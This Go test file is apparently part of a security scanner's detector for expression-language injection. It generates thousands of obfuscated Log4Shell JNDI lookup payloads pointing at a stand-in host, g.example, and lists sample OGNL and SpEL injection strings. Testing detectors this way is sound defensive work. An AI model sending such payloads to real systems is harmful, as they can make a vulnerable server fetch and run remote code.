package el_test

import (
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/tangoguard/tangoguard/internal/detect/detecttest"
	"github.com/tangoguard/tangoguard/internal/detect/el"
)

// disguise writes one letter as a lookup of Log4j that gives it.
var disguises = []func(c string) string{
	func(c string) string { return c },
	func(c string) string { return "${lower:" + strings.ToUpper(c) + "}" },
	func(c string) string { return "${upper:" + c + "}" },
	func(c string) string { return "${::-" + c + "}" },
	func(c string) string { return "${:-" + c + "}" },
	func(c string) string { return "${env:GIFT:-" + c + "}" },
	func(c string) string { return "${sys:gift.card:-" + c + "}" },
	func(c string) string { return "${gift:card:-" + c + "}" },
	func(c string) string { return "${date:'" + c + "'}" },
	func(c string) string { return "${lower:${lower:" + c + "}}" },
	func(c string) string { return "${${::-l}ower:" + c + "}" },
	func(c string) string { return strings.ToUpper(c) },
}

// TestObfuscation writes ${jndi:scheme://…} with every letter in a disguise chosen by chance.
func TestObfuscation(t *testing.T) {
	seed := uint64(time.Now().UnixNano())
	t.Logf("seed %d", seed)
	r := rand.New(rand.NewPCG(seed, 0))
	for range 3000 {
		scheme := []string{"ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba", "http"}[r.IntN(8)]
		var b strings.Builder
		b.WriteString("${")
		for _, c := range "jndi:" + scheme + ":" {
			// One letter in three is disguised, in half of the texts.
			if g := 0; r.IntN(6) == 0 {
				g = r.IntN(len(disguises))
				b.WriteString(disguises[g](string(c)))
				continue
			}
			b.WriteRune(c)
		}
		b.WriteString("//g.example/a}")
		text := b.String()
		switch r.IntN(5) {
		case 0:
			text = "Anna " + text + " Smith"
		case 1:
			text = strings.NewReplacer("$", "%24", "{", "%7B", "}", "%7D", ":", "%3a").Replace(text)
		case 2:
			text = strings.NewReplacer("{", "&#123;", "}", "&rbrace;").Replace(text)
		case 3:
			text = strings.NewReplacer("$", `\u0024`, "{", `\x7b`).Replace(text)
		}
		if len(detecttest.Inspect(t, el.Detector(), text)) == 0 {
			t.Errorf("not found: %q", text)
		}
	}
}

// TestRules: each rule has a sentence that it alone reports.
func TestRules(t *testing.T) {
	for _, tt := range []struct{ text, rule string }{
		{"${jndi:ldap://g.example}", "jndi-lookup"},
		{"jndi:rmi://g.example", "jndi-lookup"},
		{"${env:HOME}", "lookup"},
		{"${script:js:1}", "lookup"},
		{"${hostName}", "lookup"},
		{"${a${lower:b}}", "nested-lookup"},
		{"${::-j}", "nested-lookup"},
		{"%{6*7}", "ognl"},
		{"#_memberAccess", "ognl"},
		{"(#g=1)", "ognl"},
		{"@java.lang.System@exit(1)", "ognl"},
		{"T(java.lang.System)", "spel"},
		{"#{6*7}", "spel"},
		{"${pageContext.session}", "scope-object"},
		{"${''.getClass().forName('x')}", "java-reach"},
	} {
		if got := detecttest.Rules(detecttest.Inspect(t, el.Detector(), tt.text)); len(got) != 1 || got[0] != tt.rule {
			t.Errorf("%q is reported as %v, not as %s", tt.text, got, tt.rule)
		}
	}
}
